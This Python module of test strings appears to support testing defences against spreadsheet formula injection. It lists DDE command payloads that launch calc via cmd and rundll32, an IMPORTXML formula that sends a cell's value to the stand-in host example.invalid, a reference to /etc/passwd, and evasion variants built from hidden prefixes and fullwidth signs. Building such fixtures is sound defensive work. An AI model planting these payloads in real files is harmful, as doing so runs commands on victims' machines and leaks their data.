"""Texts that a spreadsheet might take for a formula, a link, an error or a command."""

from __future__ import annotations

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://example.invalid","x")',
    '=WEBSERVICE("http://example.invalid/")',
    '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
    '=DDE("cmd";"/C calc";"!A0")',
    "=cmd|' /C calc'!A0",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "='file:///etc/passwd'#$passwd.A1",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=1+1";=1+1',
    "{=1+1}",
]
"""As formulas begin."""

DISGUISED = [
    *(
        f"{before}=1+1"
        for before in (
            *("\t", "\r", "\n", "\r\n", " ", "\u00a0", "\u3000", "\u200b", "\ufeff", "\x0b", "\0"),
            *('"', "'", "''", '\t"', "%0A", "x;", "x\t", "x; "),
        )
    ),
    *(f"{sign}1+1" for sign in "＝＋－＠﹦﹢﹣﹫"),
    "-1+1|A",
    "|cmd",
    "%1+1",
]
"""Behind something that a program may drop or split at, or in letters that it may fold."""

OTHERS = [
    "#REF!",
    "#N/A",
    "TRUE",
    "1e5",
    "2021-01-02",
    "http://example.invalid/",
    "mailto:x@example.invalid",
    "\\\\example.invalid\\share",
    "file:///etc/passwd",
    "_x003D_1+1",
    "javascript:alert(1)",
    "<f>1+1</f>",
    "&A&[File]&D",
]
"""What would become a link, an error, a truth value, a date, a number, or a code of a header."""

INJECTIONS = FORMULAS + DISGUISED + OTHERS
